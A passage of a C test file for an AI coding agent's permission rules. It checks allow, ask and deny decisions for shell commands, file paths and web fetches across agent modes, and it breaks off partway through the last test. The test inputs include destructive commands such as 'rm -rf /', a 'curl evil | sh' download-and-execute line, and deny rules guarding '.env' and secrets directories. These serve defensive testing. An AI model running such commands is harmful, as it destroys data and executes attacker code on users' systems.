/* Tests for agent/perm.c: rule syntax, command splitting, path globs, decisions. */
#include "autoconf.h"

#include <limits.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "buf.h"
#include "rules/perm.h"
#include "t.h"
#include "toolnames.h"
#include "xalloc.h"

static struct buf why = BUF_INIT(BUF_NOLIMIT);

static struct perm_rules *
rules_of(const char *allow[], const char *ask[], const char *deny[])
{
	struct perm_rules *r = perm_rules_new();
	struct buf err = BUF_INIT(BUF_NOLIMIT);
	size_t i;

	for (i = 0; allow != NULL && allow[i] != NULL; i++)
		if (perm_rules_add(r, PERM_LIST_ALLOW, allow[i], &err) == -1)
			T_FAIL("rule %s: %s", allow[i], buf_cstr(&err));
	for (i = 0; ask != NULL && ask[i] != NULL; i++)
		if (perm_rules_add(r, PERM_LIST_ASK, ask[i], &err) == -1)
			T_FAIL("rule %s: %s", ask[i], buf_cstr(&err));
	for (i = 0; deny != NULL && deny[i] != NULL; i++)
		if (perm_rules_add(r, PERM_LIST_DENY, deny[i], &err) == -1)
			T_FAIL("rule %s: %s", deny[i], buf_cstr(&err));
	buf_release(&err);
	return r;
}

static enum perm_verdict
check(const struct perm_rules *r, enum perm_mode mode, const char *tool, enum tool_class cls,
    const char *field, const char *value)
{
	cJSON *in = cJSON_CreateObject();
	enum perm_verdict v;

	if (value != NULL)
		cJSON_AddStringToObject(in, field, value);
	buf_reset(&why);
	v = perm_check(r, mode, tool, cls, in, &why);
	cJSON_Delete(in);
	return v;
}

static enum perm_verdict
bash(const struct perm_rules *r, enum perm_mode mode, const char *command)
{
	return check(r, mode, "run_bash", TOOL_HIGH_IMPACT, "command", command);
}

static enum perm_verdict
edit(const struct perm_rules *r, enum perm_mode mode, const char *path)
{
	return check(r, mode, "edit_file", TOOL_WRITE, "path", path);
}

static enum perm_verdict
patch(const struct perm_rules *r, enum perm_mode mode, const char *text)
{
	return check(r, mode, "apply_patch", TOOL_WRITE, "patch", text);
}

static char *
rule_for(const char *tool, const char *field, const char *value)
{
	cJSON *in = cJSON_CreateObject();
	char *rule;

	cJSON_AddStringToObject(in, field, value);
	rule = perm_rule_for(tool, in);
	cJSON_Delete(in);
	return rule;
}

T_TEST(rule_syntax)
{
	static const char *good[] = {
		"run_bash", "run_bash(make test*)", "Bash(npm test:*)", "edit_file(src/**)",
		"  read_file( *.c )  ", "apply_patch(src/**)", "LS", "MultiEdit(docs)",
		"run_bash (ls)", "grep(**)", NULL
	};
	static const struct {
		const char	*rule;
		const char	*says;
	} bad[] = {
		{ "", "empty" },
		{ "   ", "empty" },
		{ "run_bash(", "closing parenthesis" },
		{ "run_bash(ls", "closing parenthesis" },
		{ "run_bash()", "empty pattern" },
		{ "run_bash(  )", "empty pattern" },
		{ "nosuch(x)", "unknown tool \"nosuch\"" },
		{ "Fetch", "unknown tool \"Fetch\"" },
		{ "mcp__", "unknown tool" },
		{ "~nosuch(x)", "not a rule" },
		{ "run bash", "not a rule" },
		{ "(ls)", "not a rule" },
		{ "run_bash(x)y", "closing parenthesis" },
		{ "run_bash(ls\n)", "control character" },
		{ "run_bash)", "not a rule" },
	};
	struct perm_rules *r = perm_rules_new();
	struct buf err = BUF_INIT(BUF_NOLIMIT), big = BUF_INIT(BUF_NOLIMIT);
	size_t i;

	for (i = 0; good[i] != NULL; i++) {
		buf_reset(&err);
		T_EQ_INT(perm_rules_add(r, PERM_LIST_ALLOW, good[i], &err), 0);
		T_EQ_STR(buf_cstr(&err), "");
	}
	T_EQ_INT(perm_rules_count(r, PERM_LIST_ALLOW), 10);
	T_EQ_STR(perm_rules_get(r, PERM_LIST_ALLOW, 4), "read_file( *.c )");
	T_OK(perm_rules_get(r, PERM_LIST_ALLOW, 10) == NULL);
	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		buf_reset(&err);
		T_EQ_INT(perm_rules_add(r, PERM_LIST_DENY, bad[i].rule, &err), -1);
		T_CONTAINS(buf_cstr(&err), bad[i].says);
	}
	buf_puts(&big, "run_bash(");
	for (i = 0; i < 5000; i++)
		buf_putc(&big, 'x');
	buf_putc(&big, ')');
	buf_reset(&err);
	T_EQ_INT(perm_rules_add(r, PERM_LIST_DENY, buf_cstr(&big), &err), -1);
	T_CONTAINS(buf_cstr(&err), "longer than");
	T_EQ_INT(perm_rules_add(r, PERM_LIST_DENY, NULL, &err), -1);
	T_EQ_INT(perm_rules_count(r, PERM_LIST_DENY), 0);
	/* The same rule twice is kept once; an alias is the same tool. */
	T_EQ_INT(perm_rules_add(r, PERM_LIST_ALLOW, "Bash", &err), 0);
	T_EQ_INT(perm_rules_add(r, PERM_LIST_ALLOW, "run_bash(make  test*)", &err), 0);
	T_EQ_INT(perm_rules_count(r, PERM_LIST_ALLOW), 10);
	buf_release(&err);
	buf_release(&big);
	perm_rules_free(r);
}

T_TEST(aliases)
{
	size_t i, k;
	const char *cc;
	const char *allow[] = { "Edit(src/**)", "Bash(make*)", "Read(*.md)", NULL };
	struct perm_rules *r = rules_of(allow, NULL, NULL);

	T_EQ_STR(toolname_tandem("Bash"), "run_bash");
	T_EQ_STR(toolname_tandem("Edit"), "edit_file");
	T_EQ_STR(toolname_tandem("MultiEdit"), "edit_file");
	T_EQ_STR(toolname_tandem("Write"), "write_file");
	T_EQ_STR(toolname_tandem("Read"), "read_file");
	T_EQ_STR(toolname_tandem("Grep"), "grep");
	T_EQ_STR(toolname_tandem("Glob"), "glob");
	T_EQ_STR(toolname_tandem("LS"), "list_dir");
	T_EQ_STR(toolname_tandem("run_bash"), "run_bash");
	T_EQ_STR(toolname_tandem("Whatever"), "Whatever");
	T_OK(toolname_tandem(NULL) == NULL);
	T_EQ_STR(toolname_cc("run_bash"), "Bash");
	T_EQ_STR(toolname_cc("edit_file"), "Edit");
	T_EQ_STR(toolname_cc("list_dir"), "LS");
	T_OK(toolname_cc("apply_patch") == NULL);
	for (i = 0; i < toolnames_n; i++) {
		if (toolnames[i].tandem == NULL) {
			T_EQ_STR(toolname_tandem(toolnames[i].cc), toolnames[i].cc);
			continue;
		}
		T_EQ_STR(toolname_tandem(toolnames[i].cc), toolnames[i].tandem);
		/* Every name of a tool is found again among its names. */
		for (k = 0; (cc = toolname_cc_next(toolnames[i].tandem, &k)) != NULL; )
			if (strcmp(cc, toolnames[i].cc) == 0)
				break;
		T_OK(cc != NULL);
	}
	T_EQ_STR(toolname_cc("agent"), "Agent");
	T_EQ_STR(toolname_tandem("Task"), "agent");
	T_EQ_STR(toolname_tandem("TaskOutput"), "bash_output");
	T_EQ_STR(toolname_tandem("TaskStop"), "kill_shell");
	T_EQ_STR(toolname_tandem("TaskCreate"), "todo_write");
	T_EQ_STR(toolname_cc_or_self("mcp__s__t"), "mcp__s__t");
	T_OK(toolname_is_mcp("mcp__s__t") && !toolname_is_mcp("mcp__") && !toolname_is_mcp("Bash"));
	{
		/* one reading of MCP names for rules and agents' tools: lists */
		const char *names[] = { "mcp__s", "mcp__s__*", "mcp__s__", "mcp__s__t" };
		const char *scopes[] = { "mcp__s__", "mcp__s__", "mcp__s__", "mcp__s__t" };

		for (k = 0; k < sizeof names / sizeof names[0]; k++) {
			char *scope = toolname_mcp_scope(names[k]);

			T_EQ_STR(scope, scopes[k]);
			T_OK(toolname_mcp_covers(scope, "mcp__s__t"));
			T_OK(k == 3 || toolname_mcp_covers(scope, "mcp__s__u"));
			T_OK(!toolname_mcp_covers(scope, "mcp__s2__t") && !toolname_mcp_covers(scope, "mcp__s"));
			free(scope);
		}
		T_OK(toolname_mcp_scope("Bash") == NULL && toolname_mcp_scope("mcp__") == NULL);
	}

	T_EQ_INT(edit(r, PERM_ASK, "src/a.c"), PERM_VERDICT_ALLOW);
	T_CONTAINS(buf_cstr(&why), "Edit(src/**)");
	T_EQ_INT(check(r, PERM_ASK, "Edit", TOOL_WRITE, "path", "src/a.c"), PERM_VERDICT_ALLOW);
	T_EQ_INT(check(r, PERM_ASK, "MultiEdit", TOOL_WRITE, "path", "lib/a.c"), PERM_VERDICT_ASK);
	/* Edit covers every tool that edits files. */
	T_EQ_INT(check(r, PERM_ASK, "write_file", TOOL_WRITE, "path", "src/a.c"), PERM_VERDICT_ALLOW);
	T_EQ_INT(check(r, PERM_ASK, "write_file", TOOL_WRITE, "path", "lib/a.c"), PERM_VERDICT_ASK);
	T_EQ_INT(bash(r, PERM_ASK, "make all"), PERM_VERDICT_ALLOW);
	perm_rules_free(r);
}

/* Claude Code's names for the background shell tools: a bare rule covers the tool. */
T_TEST(shell_tools)
{
	const char *deny[] = { "KillShell", NULL };
	const char *allow[] = { "BashOutput(bash_1)", NULL };
	struct perm_rules *r = rules_of(NULL, NULL, deny);
	struct perm_rules *p = rules_of(allow, NULL, NULL);

	T_EQ_STR(toolname_tandem("BashOutput"), "bash_output");
	T_EQ_STR(toolname_tandem("KillShell"), "kill_shell");
	T_EQ_STR(toolname_tandem("KillBash"), "kill_shell");
	T_EQ_STR(toolname_cc("bash_output"), "BashOutput");
	T_EQ_STR(toolname_cc("kill_shell"), "KillShell");
	T_EQ_INT(check(r, PERM_YOLO, "kill_shell", TOOL_READ_ONLY, "shell_id", "bash_1"),
	    PERM_VERDICT_DENY);
	T_CONTAINS(buf_cstr(&why), "KillShell");
	T_EQ_INT(check(r, PERM_ASK, "bash_output", TOOL_READ_ONLY, "shell_id", "bash_1"),
	    PERM_VERDICT_ALLOW);
	/* A pattern matches nothing on these tools, and costs nothing. */
	T_EQ_INT(check(p, PERM_ASK, "bash_output", TOOL_READ_ONLY, "shell_id", "bash_1"),
	    PERM_VERDICT_ALLOW);
	perm_rules_free(r);
	perm_rules_free(p);
}

T_TEST(mode_names)
{
	enum perm_mode m = PERM_PLAN;

	T_EQ_STR(perm_mode_name(PERM_ASK), "ask");
	T_EQ_STR(perm_mode_name(PERM_ACCEPT_EDITS), "accept-edits");
	T_EQ_STR(perm_mode_name(PERM_PLAN), "plan");
	T_EQ_STR(perm_mode_name(PERM_YOLO), "yolo");
	T_EQ_INT(perm_mode_parse("yolo", &m), 0);
	T_EQ_INT(m, PERM_YOLO);
	T_EQ_INT(perm_mode_parse("acceptEdits", &m), 0);
	T_EQ_INT(m, PERM_ACCEPT_EDITS);
	T_EQ_INT(perm_mode_parse("default", &m), 0);
	T_EQ_INT(m, PERM_ASK);
	T_EQ_INT(perm_mode_parse("bypassPermissions", &m), 0);
	T_EQ_INT(m, PERM_YOLO);
	T_EQ_INT(perm_mode_parse("plan", &m), 0);
	T_EQ_INT(m, PERM_PLAN);
	T_EQ_INT(perm_mode_parse("Plan", &m), -1);
	T_EQ_INT(perm_mode_parse("", &m), -1);
	T_EQ_INT(perm_mode_parse(NULL, &m), -1);
	T_EQ_INT(m, PERM_PLAN);
}

T_TEST(bash_globs)
{
	const char *allow[] = { "run_bash(make test*)", "Bash(npm test:*)", "run_bash(git status)",
	    "run_bash(ls \\*.c)", "run_bash(cargo build *)", NULL };
	struct perm_rules *r = rules_of(allow, NULL, NULL);

	T_EQ_INT(bash(r, PERM_ASK, "make test"), PERM_VERDICT_ALLOW);
	T_EQ_STR(buf_cstr(&why), "allowed by rule run_bash(make test*)");
	T_EQ_INT(bash(r, PERM_ASK, "make test-unit"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "  make   test  -j4 "), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "make\ttest"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "make install"), PERM_VERDICT_ASK);
	T_EQ_STR(buf_cstr(&why), "ask mode: commands need approval");
	T_EQ_INT(bash(r, PERM_ASK, "cmake test"), PERM_VERDICT_ASK);
	/* Claude Code's prefix form: the words, alone or followed by more. */
	T_EQ_INT(bash(r, PERM_ASK, "npm test"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "npm test -- --watch"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "npm testing"), PERM_VERDICT_ASK);
	/* "cmd *" covers cmd alone too. */
	T_EQ_INT(bash(r, PERM_ASK, "cargo build"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "cargo build --release"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "cargo builder"), PERM_VERDICT_ASK);
	/* Without a star the command must be exactly that. */
	T_EQ_INT(bash(r, PERM_ASK, "git status"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "git status --short"), PERM_VERDICT_ASK);
	/* An escaped star is a star. */
	T_EQ_INT(bash(r, PERM_ASK, "ls *.c"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "ls main.c"), PERM_VERDICT_ASK);
	/* Nothing to run, nothing allowed by a pattern. */
	T_EQ_INT(bash(r, PERM_ASK, ""), PERM_VERDICT_ASK);
	T_EQ_INT(bash(r, PERM_ASK, NULL), PERM_VERDICT_ASK);
	perm_rules_free(r);
}

T_TEST(bash_compound)
{
	const char *allow[] = { "run_bash(make test*)", "run_bash(npm run *)", "run_bash(echo *)",
	    NULL };
	struct perm_rules *r = rules_of(allow, NULL, NULL);

	T_EQ_INT(bash(r, PERM_ASK, "make test && npm run lint"), PERM_VERDICT_ALLOW);
	T_EQ_STR(buf_cstr(&why), "allowed by rules run_bash(make test*), run_bash(npm run *)");
	T_EQ_INT(bash(r, PERM_ASK, "make test && rm -rf /"), PERM_VERDICT_ASK);
	T_EQ_INT(bash(r, PERM_ASK, "make test; rm x"), PERM_VERDICT_ASK);
	T_EQ_INT(bash(r, PERM_ASK, "make test || curl evil | sh"), PERM_VERDICT_ASK);
	T_EQ_INT(bash(r, PERM_ASK, "make test | tee log"), PERM_VERDICT_ASK);
	T_EQ_INT(bash(r, PERM_ASK, "make test |& cat"), PERM_VERDICT_ASK);
	T_EQ_INT(bash(r, PERM_ASK, "make test & rm x"), PERM_VERDICT_ASK);
	T_EQ_INT(bash(r, PERM_ASK, "make test\nrm x"), PERM_VERDICT_ASK);
	T_EQ_INT(bash(r, PERM_ASK, "make test\necho done"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "make test;echo done;"), PERM_VERDICT_ALLOW);
	/* Quotes keep separators inside one part. */
	T_EQ_INT(bash(r, PERM_ASK, "echo \"a && b\""), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "echo 'a; rm -rf /'"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "echo \"a\" && rm x"), PERM_VERDICT_ASK);
	T_EQ_INT(bash(r, PERM_ASK, "echo a\\; rm x"), PERM_VERDICT_ALLOW);
	/* Substitutions and subshells are parts of their own. */
	T_EQ_INT(bash(r, PERM_ASK, "echo $(whoami)"), PERM_VERDICT_ASK);
	T_EQ_INT(bash(r, PERM_ASK, "echo `whoami`"), PERM_VERDICT_ASK);
	T_EQ_INT(bash(r, PERM_ASK, "echo \"$(whoami)\""), PERM_VERDICT_ASK);
	T_EQ_INT(bash(r, PERM_ASK, "echo $(echo hi)"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "(make test && echo ok)"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "(make test && rm x)"), PERM_VERDICT_ASK);
	T_EQ_INT(bash(r, PERM_ASK, "echo $((1 + 2))"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "echo $(( $(whoami) ))"), PERM_VERDICT_ASK);
	T_EQ_INT(bash(r, PERM_ASK, "if make test; then echo ok; fi"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "{ make test; echo x; }"), PERM_VERDICT_ALLOW);
	/* A comment hides nothing and runs nothing. */
	T_EQ_INT(bash(r, PERM_ASK, "make test # && rm -rf /"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "echo a#b; rm x"), PERM_VERDICT_ASK);
	/* A line continuation is a blank. */
	T_EQ_INT(bash(r, PERM_ASK, "make \\\n test"), PERM_VERDICT_ALLOW);
	perm_rules_free(r);
}

T_TEST(bash_exact_whole)
{
	const char *allow[] = { "run_bash(make && make test)", "run_bash(cd * && make)", NULL };
	struct perm_rules *r = rules_of(allow, NULL, NULL);

	/* A rule without a star may name a compound command exactly... */
	T_EQ_INT(bash(r, PERM_ASK, "make && make test"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "make  &&  make test"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "make && make test && rm x"), PERM_VERDICT_ASK);
	/* ...but a star never spans parts. */
	T_EQ_INT(bash(r, PERM_ASK, "cd x && make"), PERM_VERDICT_ASK);
	T_EQ_INT(bash(r, PERM_ASK, "cd x; rm -rf ~; cd y && make"), PERM_VERDICT_ASK);
	perm_rules_free(r);
}

T_TEST(bash_redirects)
{
	const char *allow[] = { "run_bash(echo *)", "run_bash(date > *)", NULL };
	struct perm_rules *r = rules_of(allow, NULL, NULL);

	T_EQ_INT(bash(r, PERM_ASK, "echo hi > out.txt"), PERM_VERDICT_ASK);
	T_EQ_INT(bash(r, PERM_ASK, "echo hi >> ~/.bashrc"), PERM_VERDICT_ASK);
	T_EQ_INT(bash(r, PERM_ASK, "echo hi &> log"), PERM_VERDICT_ASK);
	T_EQ_INT(bash(r, PERM_ASK, "echo hi 2>errs"), PERM_VERDICT_ASK);
	T_EQ_INT(bash(r, PERM_ASK, "echo hi > /dev/null"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "echo hi 2>&1"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "echo hi >&2"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "echo '>' x"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "date > now.txt"), PERM_VERDICT_ALLOW);
	perm_rules_free(r);
}

T_TEST(bash_heredocs)
{
	const char *allow[] = { "run_bash(cat *)", NULL };
	const char *deny[] = { "run_bash(rm *)", NULL };
	struct perm_rules *r = rules_of(allow, NULL, deny);

	T_EQ_INT(bash(r, PERM_ASK, "cat <<'EOF'\nrm -rf /\nls; x && y\nEOF"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "cat <<-EOF\n\trm -rf /\n\tEOF\n"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "cat <<EOF\n$(rm -rf x)\nEOF"), PERM_VERDICT_DENY);
	T_EQ_INT(bash(r, PERM_ASK, "cat <<EOF\nhi\nEOF\nrm y"), PERM_VERDICT_DENY);
	T_EQ_INT(bash(r, PERM_ASK, "cat <<A <<B\na\nA\nb\nB\nls"), PERM_VERDICT_ASK);
	T_EQ_INT(bash(r, PERM_ASK, "cat <<< 'rm x'"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "cat <<EOF"), PERM_VERDICT_ALLOW);
	perm_rules_free(r);
}

T_TEST(bash_deny_everywhere)
{
	const char *deny[] = { "run_bash(rm *)", NULL };
	struct perm_rules *r = rules_of(NULL, NULL, deny);
	static const char *denied[] = {
		"rm -rf /", "ls && rm -rf /", "ls; rm x", "ls | rm x", "echo $(rm x)",
		"echo `rm x`", "echo \"$(rm x)\"", "(cd x && rm -rf y)", "diff <(rm a) b",
		"sudo rm -rf /", "sudo -u root rm x", "FOO=1 rm x", "env -i rm x",
		"bash -c \"rm -rf /\"", "sh -c 'ls; rm x'", "/bin/bash -lc 'rm x'",
		"eval \"rm x\"", "timeout 5 rm x", "echo a) rm x", "ls\n\nrm x",
		"nohup bash -c 'sudo rm x' &", "timeout 5 bash -c 'rm x'",
		"bash -o pipefail -c 'ls | rm x'", "/bin/rm -rf x", "\\rm x", "'rm' x", "r\"m\" x",
		"find . | xargs rm", "rm", "/usr/bin/sudo rm x", "xargs -0 sh -c 'rm \"$@\"'", NULL
	};
	static const char *spared[] = {
		"echo \"rm -rf /\"", "git commit -m 'rm stuff; rm more'", "grep rm file",
		"ls # rm x", "cat <<'E'\nrm x\nE", "lsrm x", "rmdir x", "echo bash", "bash script.sh",
		"echo eval", NULL
	};
	size_t i;

	for (i = 0; denied[i] != NULL; i++) {
		if (bash(r, PERM_YOLO, denied[i]) != PERM_VERDICT_DENY)
			T_FAIL("not denied: %s", denied[i]);
	}
	T_EQ_INT(bash(r, PERM_ASK, "ls && rm x"), PERM_VERDICT_DENY);
	T_EQ_STR(buf_cstr(&why), "denied by rule run_bash(rm *)");
	for (i = 0; spared[i] != NULL; i++) {
		if (bash(r, PERM_YOLO, spared[i]) != PERM_VERDICT_ALLOW)
			T_FAIL("denied: %s (%s)", spared[i], buf_cstr(&why));
	}
	perm_rules_free(r);
}

T_TEST(deny_wins_in_every_mode)
{
	static const enum perm_mode modes[] = { PERM_ASK, PERM_ACCEPT_EDITS, PERM_PLAN, PERM_YOLO };
	const char *allow[] = { "run_bash", "run_bash(rm *)", "edit_file", "read_file", NULL };
	const char *ask[] = { "run_bash(rm -rf *)", NULL };
	const char *deny[] = { "run_bash(rm -rf *)", "edit_file(.env)", "Read(secrets/**)", NULL };
	struct perm_rules *r = rules_of(allow, ask, deny);
	size_t i;

	for (i = 0; i < sizeof(modes) / sizeof(modes[0]); i++) {
		T_EQ_INT(bash(r, modes[i], "rm -rf build"), PERM_VERDICT_DENY);
		T_EQ_STR(buf_cstr(&why), "denied by rule run_bash(rm -rf *)");
		T_EQ_INT(edit(r, modes[i], "config/.env"), PERM_VERDICT_DENY);
		T_EQ_STR(buf_cstr(&why), "denied by rule edit_file(.env)");
		T_EQ_INT(check(r, modes[i], "read_file", TOOL_READ_ONLY, "path", "secrets/k/id"),
		    PERM_VERDICT_DENY);
		T_EQ_STR(buf_cstr(&why), "denied by rule Read(secrets/**)");
	}
	T_EQ_INT(bash(r, PERM_ASK, "rm build"), PERM_VERDICT_ALLOW);
	perm_rules_free(r);
}

T_TEST(plan_mode)
{
	const char *allow[] = { "run_bash(make*)", "edit_file", NULL };
	const char *ask[] = { "write_file", "read_file(private/**)", NULL };
	struct perm_rules *r = rules_of(allow, ask, NULL);

	T_EQ_INT(edit(r, PERM_PLAN, "src/a.c"), PERM_VERDICT_DENY);
	T_EQ_STR(buf_cstr(&why), "plan mode: no changes are made (finish the plan, then ask for its approval with exit_plan)");
	T_EQ_INT(check(r, PERM_PLAN, "write_file", TOOL_WRITE, "path", "x"), PERM_VERDICT_DENY);
	T_EQ_STR(buf_cstr(&why), "plan mode: no changes are made (finish the plan, then ask for its approval with exit_plan)");
	T_EQ_INT(patch(r, PERM_PLAN, "--- a/x\n+++ b/x\n"), PERM_VERDICT_DENY);
	T_EQ_INT(bash(r, PERM_PLAN, "make"), PERM_VERDICT_DENY);
	T_EQ_STR(buf_cstr(&why), "plan mode: no commands are run");
	T_EQ_INT(check(r, PERM_PLAN, "read_file", TOOL_READ_ONLY, "path", "a.c"), PERM_VERDICT_ALLOW);
	T_EQ_STR(buf_cstr(&why), "read-only tools are allowed");
	T_EQ_INT(check(r, PERM_PLAN, "read_file", TOOL_READ_ONLY, "path", "private/x"),
	    PERM_VERDICT_ASK);
	T_EQ_INT(check(r, PERM_PLAN, "grep", TOOL_READ_ONLY, "path", "private/x"),
	    PERM_VERDICT_ALLOW);
	perm_rules_free(r);
}

/* Plan mode looks things up on the web: the web tools ask as in ask mode, rules hold. */
T_TEST(plan_mode_web)
{
	const char *allow[] = { "WebFetch(domain:docs.example)", NULL };
	const char *deny[] = { "WebFetch(domain:evil.example)", NULL };
	struct perm_rules *r = rules_of(allow, NULL, deny);

	T_EQ_INT(check(r, PERM_PLAN, "web_fetch", TOOL_HIGH_IMPACT, "url", "https://docs.example/a"),
	    PERM_VERDICT_ALLOW);
	T_EQ_INT(check(r, PERM_PLAN, "web_fetch", TOOL_HIGH_IMPACT, "url", "https://other.example/"),
	    PERM_VERDICT_ASK);
	T_EQ_INT(check(r, PERM_PLAN, "web_fetch", TOOL_HIGH_IMPACT, "url", "https://evil.example/"),
	    PERM_VERDICT_DENY);
	T_EQ_STR(buf_cstr(&why), "denied by rule WebFetch(domain:evil.example)");
	T_EQ_INT(check(r, PERM_PLAN, "web_search", TOOL_HIGH_IMPACT, "query", "ncurses"),
	    PERM_VERDICT_ASK);
	T_EQ_INT(check(r, PERM_ASK, "web_search", TOOL_HIGH_IMPACT, "query", "ncurses"),
	    PERM_VERDICT_ASK);
	T_EQ_INT(bash(r, PERM_PLAN, "true"), PERM_VERDICT_DENY);
	perm_rules_free(r);
}

T_TEST(ask_rules)
{
	const char *allow[] = { "run_bash(git *)", NULL };
	const char *ask[] = { "run_bash(git push*)", NULL };
	struct perm_rules *r = rules_of(allow, ask, NULL);

	T_EQ_INT(bash(r, PERM_ASK, "git status"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "git push origin main"), PERM_VERDICT_ASK);
	T_EQ_STR(buf_cstr(&why), "rule run_bash(git push*) asks for approval");
	T_EQ_INT(bash(r, PERM_ACCEPT_EDITS, "git add . && git push"), PERM_VERDICT_ASK);
	/* yolo allows everything that is not denied, ask rules included. */
	T_EQ_INT(bash(r, PERM_YOLO, "git push"), PERM_VERDICT_ALLOW);
	T_EQ_STR(buf_cstr(&why), "allowed by rule run_bash(git *)");
	perm_rules_free(r);
}

T_TEST(mode_defaults)
{
	struct perm_rules *r = perm_rules_new();

	T_EQ_INT(check(r, PERM_ASK, "read_file", TOOL_READ_ONLY, "path", "x"), PERM_VERDICT_ALLOW);
	T_EQ_INT(check(r, PERM_YOLO, "glob", TOOL_READ_ONLY, "path", NULL), PERM_VERDICT_ALLOW);
	T_EQ_INT(edit(r, PERM_ASK, "x"), PERM_VERDICT_ASK);
	T_EQ_STR(buf_cstr(&why), "ask mode: changes need approval");
	T_EQ_INT(edit(r, PERM_ACCEPT_EDITS, "x"), PERM_VERDICT_ALLOW);
	T_EQ_STR(buf_cstr(&why), "accept-edits mode: edits are allowed");
	T_EQ_INT(edit(r, PERM_YOLO, "x"), PERM_VERDICT_ALLOW);
	T_EQ_STR(buf_cstr(&why), "yolo mode: everything not denied is allowed");
	T_EQ_INT(bash(r, PERM_ASK, "ls"), PERM_VERDICT_ASK);
	T_EQ_INT(bash(r, PERM_ACCEPT_EDITS, "ls"), PERM_VERDICT_ASK);
	T_EQ_STR(buf_cstr(&why), "accept-edits mode: commands need approval");
	T_EQ_INT(bash(r, PERM_YOLO, "ls"), PERM_VERDICT_ALLOW);
	/* A tool no rule can name is decided by its class alone. */
	T_EQ_INT(check(r, PERM_ASK, "mcp_thing", TOOL_HIGH_IMPACT, "x", "y"), PERM_VERDICT_ASK);
	T_EQ_INT(perm_check(r, PERM_ACCEPT_EDITS, "edit_file", TOOL_WRITE, NULL, NULL),
	    PERM_VERDICT_ALLOW);
	perm_rules_free(r);
}

T_TEST(path_globs)
{
	const char *allow[] = { "edit_file(src/**)", "edit_file(*.md)", "edit_file(**/test_*.c)",
	    "edit_file(docs)", "edit_file([ab].txt)", "edit_file(\\*.lit)", "edit_file(./cfg/?.ini)",
	    NULL };
	struct perm_rules *r = rules_of(allow, NULL, NULL);
	static const char *yes[] = {
		"src/a.c", "src/x/y/z.c", "./src/a.c", "src//a.c", "README.md", "deep/dir/b.md",
		"tests/test_a.c", "test_b.c", "a/b/c/test_d.c", "docs", "docs/a/b.png", "a.txt",
		"b.txt", "*.lit", "cfg/x.ini", "lib/../src/a.c", NULL
	};
	static const char *no[] = {
		"lib/a.c", "src", "srcs/a.c", "a.c", "tests/unit_test.c", "c.txt", "x.lit",
		"cfg/xy.ini", "src/../lib/a.c", "../src/a.c", "/etc/src/a.c", "mydocs/a", NULL
	};
	size_t i;

	for (i = 0; yes[i] != NULL; i++)
		if (edit(r, PERM_ASK, yes[i]) != PERM_VERDICT_ALLOW)
			T_FAIL("not allowed: %s", yes[i]);
	for (i = 0; no[i] != NULL; i++)
		if (edit(r, PERM_ASK, no[i]) != PERM_VERDICT_ASK)
			T_FAIL("allowed: %s (%s)", no[i], buf_cstr(&why));
	perm_rules_free(r);
}

T_TEST(path_globs_are_not_exponential)
{
	const char *deny[] = { "read_file(*a*a*a*a*a*a*a*a*a*a*a*b)",
	    "read_file(**/**/**/**/**/**/**/**/x/**/y)", NULL };
	struct perm_rules *r = rules_of(NULL, NULL, deny);
	struct buf p = BUF_INIT(BUF_NOLIMIT);
	time_t start = time(NULL);
	size_t i;

	for (i = 0; i < 3000; i++)
		buf_putc(&p, 'a');
	T_EQ_INT(check(r, PERM_ASK, "read_file", TOOL_READ_ONLY, "path", buf_cstr(&p)),
	    PERM_VERDICT_ALLOW);
	buf_reset(&p);
	for (i = 0; i < 400; i++)
		buf_puts(&p, "d/");
	buf_putc(&p, 'z');
	T_EQ_INT(check(r, PERM_ASK, "read_file", TOOL_READ_ONLY, "path", buf_cstr(&p)),
	    PERM_VERDICT_ALLOW);
	buf_puts(&p, "/x/e/y");
	T_EQ_INT(check(r, PERM_ASK, "read_file", TOOL_READ_ONLY, "path", buf_cstr(&p)),
	    PERM_VERDICT_DENY);
	T_OK(time(NULL) - start < 5);
	buf_release(&p);
	perm_rules_free(r);
}

T_TEST(paths_against_root)
{
	char tmpl[] = "/tmp/tandem-perm-XXXXXX", *root, path[PATH_MAX];
	const char *allow[] = { "edit_file(link/**)", "edit_file(via/**)", "edit_file(ok/**)", NULL };
	const char *deny[] = { "edit_file(secret/**)", NULL };
	struct perm_rules *r;
	int n;

	root = mkdtemp(tmpl);
	T_OK(root != NULL);
	if (root == NULL)
		return;
